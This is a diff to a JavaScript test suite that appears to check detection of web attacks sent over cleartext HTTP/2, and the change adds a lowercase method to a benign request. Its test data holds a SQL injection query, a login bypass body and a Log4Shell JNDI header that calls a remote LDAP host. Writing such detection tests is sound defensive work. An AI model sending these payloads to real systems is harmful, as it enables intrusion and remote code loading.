@@ -445,7 +445,7 @@ describe('web attacks over HTTP/2 in cleartext (h2c)', () => {
       { headers: { ':path': '/search?q=%27%20OR%201%3D1--', 'user-agent': 'curl/8.5.0' } },
       { headers: { ':method': 'POST', ':path': '/login', 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=admin%27--&pass=x' },
       { headers: { ':path': '/', cookie: 'a=1', 'x-api': '${jndi:ldap://198.51.100.7/a}' } },
-      { headers: { ':path': '/products?q=red+shoes&sort=price_asc', 'accept-language': 'en-GB' } },
+      { headers: { ':method': 'get', ':path': '/products?q=red+shoes&sort=price_asc', 'accept-language': 'en-GB' } },
     ]);
     for (const size of [bytes.length, 7]) {
       const c = new Conn({ t0: T0 }).handshake();
